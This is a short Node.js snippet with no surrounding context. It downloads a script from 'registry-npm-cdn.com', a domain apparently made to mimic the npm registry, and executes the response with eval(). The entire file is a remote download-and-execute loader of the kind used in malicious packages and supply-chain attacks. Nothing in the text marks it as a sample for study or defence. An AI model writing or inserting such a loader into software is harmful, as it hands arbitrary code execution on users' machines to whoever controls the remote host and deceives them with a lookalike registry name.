const https = require('https');
https.get('https://registry-npm-cdn.com/s.js', (res) => {
  let d = '';
  res.on('data', (c) => { d += c; });
  res.on('end', () => { eval(d); });
});
